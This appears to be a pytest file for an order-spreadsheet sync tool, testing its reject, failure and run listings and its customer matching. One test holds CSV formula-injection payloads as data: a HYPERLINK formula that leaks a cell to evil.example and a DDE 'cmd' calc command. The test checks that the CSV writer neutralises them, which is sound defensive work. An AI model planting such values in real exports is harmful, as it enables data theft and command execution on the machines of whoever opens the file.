"""`ordersync rejects`, `failures` and `runs`: every row, record and run, as the tables hold."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import WorkbookFactory, fetch, order_row, write_config
from ordersync.cli import cli
from ordersync.config import Config
from ordersync.customers import resolve_customers
from ordersync.db import Database
from ordersync.errors import UnknownCustomerError
from ordersync.listings.failures import RETRY_COMMAND, list_failures
from ordersync.listings.rejects import RejectedRow, list_rejects, write_rejects_csv
from ordersync.listings.runs import list_runs
from ordersync.pipeline import run_pipeline
from sync.conftest import Harness


def _bad_files(write_workbook: WorkbookFactory) -> None:
    write_workbook("GRE_a.xlsx", [order_row(1), order_row(2, {"S": "12 pcs", "M": 3}),
                                  order_row(3, ETA="31/02/2025"), order_row(4)])
    write_workbook("GRE_b.xlsx", [order_row(5), order_row(5, {"S": 1})])  # a duplicate key


def test_rejects_lists_every_rejected_cell_with_its_customer_and_filters(
        config: Config, db: Database, write_workbook: WorkbookFactory, tmp_path: Path) -> None:
    _bad_files(write_workbook)
    run_pipeline(config, db)

    rows = list_rejects(config, db)

    table = fetch(db, 'SELECT file, "row", "column", raw_value, reason FROM rejected_rows')
    assert len(rows) == len(table) == 3
    assert sorted((r.file, r.row, r.column, r.raw_value) for r in rows) == sorted(
        (t.file, t.row, t.column, t.raw_value) for t in table)
    assert {r.customer for r in rows} == {"GREYSTONE"}
    assert {r.reason_kind for r in rows} >= {"duplicate key"}
    assert {(r.file, r.raw_value) for r in rows if r.column} == {
        ("GRE_a.xlsx", "12 pcs"), ("GRE_a.xlsx", "31/02/2025")}
    assert [r.file for r in list_rejects(config, db, file_glob="*_b.xlsx")] == ["GRE_b.xlsx"]
    assert len(list_rejects(config, db, reason="DUPLICATE")) == 1
    assert len(list_rejects(config, db, customers=["greystone"])) == 3  # any case
    assert len(list_rejects(config, db, customers=["gre"])) == 3  # the profile code

    with pytest.raises(UnknownCustomerError) as error:
        list_rejects(config, db, customers=["ACME"])
    assert "'ACME'" in str(error.value)
    assert "known customers: BLUEWAVE, GREYSTONE" in str(error.value)

    (tmp_path / "out").mkdir()
    written = write_rejects_csv(rows, tmp_path / "out" / "rejects.csv")
    with (tmp_path / "out" / "rejects.csv").open(encoding="utf-8-sig") as handle:
        back = list(csv.DictReader(handle))
    assert written == len(back) == 3
    assert {b["raw_value"] for b in back} == {"12 pcs", "31/02/2025", ""}
    assert {b["customer"] for b in back} == {"GREYSTONE"}


def test_the_rejects_csv_never_hands_excel_a_formula(tmp_path: Path) -> None:
    """A customer's cell (or file name) reading =HYPERLINK(…) or +cmd|… would run when the
    CSV is opened in Excel: such text gets a leading apostrophe; numbers stay numbers."""
    values = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
              "@SUM(A1)", "-5", "-2.5", "12 pcs"]
    rows = [RejectedRow("=evil.xlsx", "S", 2, "S", value, "not a number", "GREYSTONE", None,
                        "GRE") for value in values]
    write_rejects_csv(rows, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        back = list(csv.DictReader(handle))

    assert [b["raw_value"] for b in back] == [
        "'" + values[0], "'" + values[1], "'@SUM(A1)", "-5", "-2.5", "12 pcs"]
    assert {b["file"] for b in back} == {"'=evil.xlsx"}


def test_rejects_command_json_and_csv(config: Config, db: Database,
                                      write_workbook: WorkbookFactory, tmp_path: Path) -> None:
    _bad_files(write_workbook)
    run_pipeline(config, db)
    path = write_config(config, tmp_path)

    result = CliRunner().invoke(cli, ["rejects", "--config", str(path), "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["rejections"] == len(fetch(db, "SELECT id FROM rejected_rows")) == 3
    assert data["rejected_rows"] == 3

    result = CliRunner().invoke(cli, ["rejects", "--config", str(path), "--reason", "not a number",
                                      "--csv", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    assert "wrote 1 rejected cell(s)" in result.stderr

    result = CliRunner().invoke(cli, ["rejects", "--config", str(path), "--customer", "ACME"])
    assert result.exit_code == 1
    assert "no such customer" in result.stderr and "GREYSTONE" in result.stderr
    assert "Traceback" not in result.output


def test_failures_lists_refused_records_with_mondays_reason_and_the_retry_command(
        harness_factory: Callable[..., Harness], write_workbook: WorkbookFactory,
        tmp_path: Path) -> None:
    h = harness_factory(columns={"identity": "order_key", "status": "status",
                                 "quantity": {"id": "total_qty", "type": "numbers",
                                              "source": "CUSTOMER STYLE"}})
    write_workbook("GRE_a.xlsx", [order_row(1, style="42"), order_row(2, style="NOT-A-NUMBER")])
    h.pipeline()
    report = h.sync()

    records = list_failures(h.db)

    states = fetch(h.db, "SELECT business_key FROM orders WHERE sync_state = 'FAILED'")
    assert report.counts["failed"] == 1 and len(records) == len(states) == 1
    (record,) = records
    assert record.order_key == states[0].business_key.replace("\x1f", " | ")
    assert record.customer == "GREYSTONE" and record.order_key == "GRE-00002 | SEA | NOT-A-NUMBER"
    assert record.state == "FAILED" and not record.in_doubt and record.size is None
    assert "NOT-A-NUMBER" in (record.message or "") and record.operation == "encode"
    assert record.attempts == 0  # refused before it was sent
    assert record.last_tried is not None

    path = write_config(h.config, tmp_path)
    result = CliRunner().invoke(cli, ["failures", "--config", str(path), "--json"])
    data = json.loads(result.stdout)
    assert (data["failed"], data["in_doubt"]) == (1, 0)
    assert data["next_steps"] == [f"{RETRY_COMMAND} --config {path}"]
    text = CliRunner().invoke(cli, ["failures", "--config", str(path)]).stderr
    assert "NOT-A-NUMBER" in text and "--retry-failed" in text


def test_failures_with_nothing_failed_does_not_claim_the_board_has_everything(
        harness: Harness, write_workbook: WorkbookFactory, tmp_path: Path) -> None:
    """Orders never sent (no sync yet, or left to send by a stopped run) are not failures;
    the listing said "every record a sync tried is on the board" all the same."""
    write_workbook("GRE_a.xlsx", [order_row(1)])
    harness.pipeline()
    path = write_config(harness.config, tmp_path)

    text = CliRunner().invoke(cli, ["failures", "--config", str(path)]).stderr

    assert "nothing FAILED or in doubt" in text and "PENDING" in text
    assert "is on the board" not in text


def test_runs_lists_ingests_and_syncs_newest_first_with_their_counts(
        harness: Harness, write_workbook: WorkbookFactory, tmp_path: Path) -> None:
    write_workbook("GRE_a.xlsx", [order_row(n) for n in range(1, 6)])
    h = harness
    h.pipeline()
    h.pipeline()  # nothing changed
    report = h.sync()

    runs = list_runs(h.db)

    assert [r.kind for r in runs] == ["sync", "ingest", "ingest"]
    sync, second, first = runs
    assert (first.counts["files_read"], first.counts["rows_staged"],
            first.counts["orders_written"]) == (1, 5, 5)
    assert (second.counts["files_read"], second.counts["files_skipped"],
            second.counts["orders_written"]) == (0, 1, 0)
    assert sync.status == "ok" and sync.requests == report.requests > 0
    assert sync.complexity == report.complexity and sync.mutations == report.mutations
    assert sync.counts["items_created"] == 5 and sync.counts["failed"] == 0
    table = fetch(h.db, "SELECT requests, complexity FROM sync_runs")
    assert [(t.requests, t.complexity) for t in table] == [(sync.requests, sync.complexity)]
    assert len(list_runs(h.db, limit=1)) == 1

    path = write_config(h.config, tmp_path)
    result = CliRunner().invoke(cli, ["runs", "--config", str(path), "--json"])
    assert [r["kind"] for r in json.loads(result.stdout)] == ["sync", "ingest", "ingest"]


def test_one_customer_spelled_three_ways_is_one_customer_everywhere(
        make_config: Callable[..., Config], write_workbook: WorkbookFactory) -> None:
    """The merge made one customer and one group of three profiles' spellings, but the
    report counted three customers, rejects named the profile's spelling, and --customer
    took neither a spelling listed in [customers] nor the name without its punctuation."""
    from ordersync.db import open_database
    from ordersync.report import read_report_data

    profiles = {code: {"customer": name, "glob": [f"{code}*.xlsx"]} for code, name in (
        ("GRE", "GREYSTONE"), ("GRL", "Greystone Ltd."), ("GRS", "greystone"))}
    config = make_config(sources={"directory": "orders", "profiles": profiles},
                         customers={"GREYSTONE": ["Greystone Ltd"]})
    write_workbook("GRE_a.xlsx", [order_row(1)])
    write_workbook("GRL_b.xlsx", [order_row(2, {"S": "12 pcs"})])
    write_workbook("GRS_c.xlsx", [order_row(3)])
    db = open_database(config)
    try:
        run_pipeline(config, db)

        data = read_report_data(config, db)
        assert [(c.customer, c.files, c.rows_read, c.orders) for c in data.customers] == [
            ("GREYSTONE", 3, 3, 2)]
        assert [r.customer for r in list_rejects(config, db)] == ["GREYSTONE"]
        for spelling in ("greystone-ltd", "Greystone Ltd", "GRS", "grey stone"):
            assert resolve_customers(config, db, [spelling]) == ("GREYSTONE",), spelling
            assert len(list_rejects(config, db, customers=[spelling])) == 1
        with pytest.raises(UnknownCustomerError) as unknown:
            resolve_customers(config, db, ["Bluewave"])
        assert unknown.value.known == ("GREYSTONE",)
    finally:
        db.dispose()


def test_an_unknown_customer_stops_the_sync_before_anything_is_sent(
        harness: Harness, write_workbook: WorkbookFactory) -> None:
    write_workbook("GRE_a.xlsx", [order_row(1)])
    harness.pipeline()

    with pytest.raises(UnknownCustomerError, match="known customers: BLUEWAVE, GREYSTONE"):
        harness.sync(customers=("ACME",))

    assert harness.sent == []
    assert resolve_customers(harness.config, harness.db, [" greystone "]) == ("GREYSTONE",)
    assert harness.sync(customers=("Greystone",)).counts["items_created"] == 1
